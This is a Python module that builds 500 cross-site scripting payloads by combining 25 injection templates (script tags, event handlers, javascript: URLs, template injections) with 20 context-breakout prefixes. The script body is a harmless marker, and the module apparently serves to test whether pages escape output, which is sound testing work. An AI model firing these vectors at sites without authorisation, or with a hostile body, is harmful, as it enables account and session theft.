"""Texts that would run a script on a page that does not escape them; 500 of them."""

from collections.abc import Iterator

FIRE = "window.fired=1"
_TAGS = (
    "<script>{f}</script>",
    "<img src=x onerror={f}>",
    "<svg onload={f}>",
    "<svg><script>{f}</script></svg>",
    "<details open ontoggle={f}>",
    "<iframe srcdoc='<script>parent.{f}</script>'></iframe>",
    "<iframe src=javascript:parent.{f}></iframe>",
    "<body onload={f}>",
    "<input autofocus onfocus={f}>",
    "<select autofocus onfocus={f}>",
    "<video><source onerror={f}></video>",
    "<audio src=x onerror={f}>",
    "<object data=javascript:{f}>",
    "<embed src=javascript:{f}>",
    "<math><mtext><script>{f}</script>",
    "<a href=javascript:{f} autofocus onfocus={f}>x</a>",
    "<form><button autofocus onfocus={f}>x",
    "<meta http-equiv=refresh content='0;url=javascript:{f}'>",
    "<style onload={f}></style>",
    "<link rel=stylesheet href=x onerror={f}>",
    "<template><script>{f}</script></template><img src onerror={f}>",
    "x onmouseover={f} style=position:fixed;inset:0 autofocus onfocus={f} tabindex=1 ",
    "{{{{constructor.constructor('{f}')()}}}}",
    "${{{f}}}",
    "javascript:{f}",
)
_BEFORE = (
    "", '"', "'", "`", ">", '">', "'>", "-->", "</script>", "</textarea>", "</title>", "</style>",
    "*/", "]]>", "\\", "\\u0022", "&quot;", "</pre>", "</option></select>", "</svg>",
)  # fmt: skip


def payloads(many: int) -> Iterator[str]:
    """Yield ``many`` of them, evenly chosen."""
    every = [before + tag.format(f=FIRE) for before in _BEFORE for tag in _TAGS]
    assert len(set(every)) == 500
    for at in range(min(many, 500)):
        yield every[at * 500 // min(many, 500)]
